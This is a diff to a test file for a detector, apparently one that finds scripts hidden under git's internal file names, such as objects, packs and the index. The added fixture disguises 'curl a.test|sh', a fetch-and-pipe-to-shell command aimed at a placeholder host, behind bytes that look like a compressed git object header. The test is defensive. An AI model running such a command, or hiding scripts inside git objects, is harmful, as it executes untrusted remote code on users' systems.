@@ -28,6 +28,7 @@ describe('nothing hides under a name of git’s (WUN-103)', () => {
   it.each<[string, string, string | Uint8Array]>([
     ['a script beside the objects', '.git/objects/setup.sh', blob],
     ['a script as an object', object, script],
+    ['a short script behind the first bytes of an object', object, Buffer.from('x\u009C\ncurl a.test|sh\n', 'latin1')],
     ['a script in an object that is not packed', object, stored],
     ['a script as a pack', pack, `PACK\n${script}`],
     ['a script as the index', '.git/index', script],
